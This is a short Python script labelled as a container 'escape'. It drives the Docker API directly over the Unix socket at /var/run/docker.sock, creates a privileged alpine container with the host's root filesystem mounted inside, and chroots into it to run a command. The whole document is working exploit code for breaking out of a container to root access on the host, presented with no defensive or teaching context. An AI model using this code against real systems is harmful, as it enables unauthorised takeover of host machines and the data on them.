# class: escape, the Docker socket by hand; style: no libraries
import http.client, json, socket
class U(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX); self.sock.connect("/var/run/docker.sock")
c = U("localhost")
c.request("POST", "/containers/create", json.dumps({"Image": "alpine", "Cmd": ["chroot", "/h", "id"], "HostConfig": {"Binds": ["/:/h"], "Privileged": True}}), {"Content-Type": "application/json"})
i = json.loads(c.getresponse().read())["Id"]
c = U("localhost"); c.request("POST", f"/containers/{i}/start"); print(c.getresponse().status)
